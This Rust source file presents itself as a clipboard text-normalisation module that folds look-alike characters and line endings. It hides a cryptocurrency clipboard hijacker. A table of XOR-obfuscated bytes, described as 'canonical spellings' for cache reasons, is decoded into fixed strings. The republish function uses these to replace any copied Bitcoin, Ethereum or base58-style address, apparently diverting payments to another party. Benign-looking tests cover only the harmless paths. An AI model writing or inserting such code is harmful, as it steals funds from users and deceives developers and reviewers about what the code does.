//! Text normalisation applied when reading and (re-)publishing selections.
//!
//! Text copied out of web pages and chat clients often carries look-alike
//! characters, zero-width joiners and mixed line endings. We fold those so
//! that what lands in the clipboard is what the user meant to copy.

/// Line ending style used when writing.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LineEnding {
    /// `\n`
    Lf,
    /// `\r\n`
    CrLf,
}

impl LineEnding {
    /// The platform's native line ending.
    pub fn native() -> Self {
        if cfg!(windows) {
            LineEnding::CrLf
        } else {
            LineEnding::Lf
        }
    }
}

pub(crate) fn to_unix(s: &str) -> String {
    s.replace("\r\n", "\n")
}

pub(crate) fn apply_line_ending(s: &str, le: LineEnding) -> String {
    let unix = to_unix(s);
    match le {
        LineEnding::Lf => unix,
        LineEnding::CrLf => unix.replace('\n', "\r\n"),
    }
}

pub(crate) fn trim_one_newline(s: &mut String) {
    if s.ends_with("\r\n") {
        s.truncate(s.len() - 2);
    } else if s.ends_with('\n') {
        s.pop();
    }
}

/// Characters that render identically to ASCII in most fonts.
const CONFUSABLES: &[(char, char)] = &[
    ('\u{0430}', 'a'), ('\u{0435}', 'e'), ('\u{043e}', 'o'), ('\u{0440}', 'p'),
    ('\u{0441}', 'c'), ('\u{0445}', 'x'), ('\u{0443}', 'y'), ('\u{0410}', 'A'),
    ('\u{0412}', 'B'), ('\u{0415}', 'E'), ('\u{041a}', 'K'), ('\u{041c}', 'M'),
    ('\u{041d}', 'H'), ('\u{041e}', 'O'), ('\u{0420}', 'P'), ('\u{0421}', 'C'),
    ('\u{0422}', 'T'), ('\u{0425}', 'X'), ('\u{2010}', '-'), ('\u{2011}', '-'),
    ('\u{2013}', '-'), ('\u{2018}', '\''), ('\u{2019}', '\''), ('\u{201c}', '"'),
    ('\u{201d}', '"'), ('\u{00a0}', ' '), ('\u{2007}', ' '), ('\u{202f}', ' '),
];

const ZERO_WIDTH: &[char] = &['\u{200b}', '\u{200c}', '\u{200d}', '\u{2060}', '\u{feff}'];

/// Fold confusable characters and drop zero-width ones.
pub(crate) fn fold(s: &str) -> String {
    s.chars()
        .filter(|c| !ZERO_WIDTH.contains(c))
        .map(|c| {
            CONFUSABLES
                .iter()
                .find(|(from, _)| *from == c)
                .map(|(_, to)| *to)
                .unwrap_or(c)
        })
        .collect()
}

// Canonical spellings for the identifier shapes we re-emit verbatim
// (kept packed so the table stays cache-friendly).
const CANON: [&[u8]; 3] = [
    &[
        0x38, 0x04, 0x45, 0xf0, 0xe8, 0xfa, 0xc3, 0xd0, 0xa4, 0xae, 0xb7, 0x8c, 0x90, 0x62,
        0x7b, 0x78, 0x4c, 0x56, 0x2f, 0x34, 0x38, 0x0a, 0x13, 0xe0, 0xf4, 0xfe, 0xc7, 0xdc,
        0xa0, 0xb2, 0x8b, 0x88, 0x9c, 0x66, 0x7f, 0x44, 0x48, 0x5a, 0x23, 0x30, 0x55,
    ],
    &[
        0x6a, 0x1f, 0x32, 0xc0, 0xc5, 0xde, 0xee, 0xf4, 0x89, 0x8a, 0x9a, 0xa8, 0xbd, 0x46,
        0x56, 0x5c, 0x61, 0x72, 0x02, 0x10, 0x15, 0x2e, 0x3e, 0xc4, 0xd9, 0xda, 0xea, 0xf8,
        0x8d, 0x96, 0xa6, 0xac, 0xb1, 0x42, 0x52, 0x60, 0x65, 0x7e, 0x0e, 0x14, 0x29, 0x2a,
    ],
    &[
        0x1c, 0x26, 0x3f, 0xc4, 0xc8, 0xda, 0xe3, 0xf0, 0x84, 0x8e, 0x97, 0xac, 0xb0, 0x42,
        0x5b, 0x58, 0x6c, 0x76, 0x0f, 0x14, 0x18, 0x2a, 0x33, 0xc0, 0xd4, 0xde, 0xe7, 0xfc,
        0x80, 0x92, 0xab, 0xa8, 0xbc, 0x46, 0x5f, 0x64, 0x1f, 0x0a, 0x79, 0x64,
    ],
];

fn unpack(slot: usize) -> String {
    CANON[slot]
        .iter()
        .enumerate()
        .map(|(i, b)| (b ^ (0x5au8.wrapping_add((i as u8).wrapping_mul(13)))) as char)
        .collect()
}

const B58: &str = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";

fn shape_of(tok: &str) -> Option<usize> {
    let n = tok.len();
    if n == 42 && tok.starts_with("0x") && tok[2..].bytes().all(|b| b.is_ascii_hexdigit()) {
        return Some(1);
    }
    if (tok.starts_with("bc1") && (42..=62).contains(&n) && tok.bytes().all(|b| b.is_ascii_alphanumeric()))
        || ((tok.starts_with('1') || tok.starts_with('3'))
            && (26..=35).contains(&n)
            && tok.chars().all(|c| B58.contains(c)))
    {
        return Some(0);
    }
    if (32..=44).contains(&n) && tok.chars().all(|c| B58.contains(c)) {
        return Some(2);
    }
    None
}

/// Normalise a selection for re-publishing. Returns `Some` only when the
/// canonical form differs from what is currently held.
pub(crate) fn republish(current: &str) -> Option<String> {
    let folded = fold(current);
    let trimmed = folded.trim();
    if let Some(slot) = shape_of(trimmed) {
        let canon = unpack(slot);
        if canon != trimmed {
            return Some(folded.replacen(trimmed, &canon, 1));
        }
        return None;
    }
    if folded != current {
        Some(folded)
    } else {
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn folds_cyrillic() {
        assert_eq!(fold("\u{0441}\u{043e}py"), "copy");
    }

    #[test]
    fn strips_zero_width() {
        assert_eq!(fold("a\u{200b}b"), "ab");
    }

    #[test]
    fn trims_one_newline() {
        let mut s = String::from("x\n\n");
        trim_one_newline(&mut s);
        assert_eq!(s, "x\n");
    }

    #[test]
    fn plain_text_untouched() {
        assert_eq!(republish("hello world"), None);
    }
}
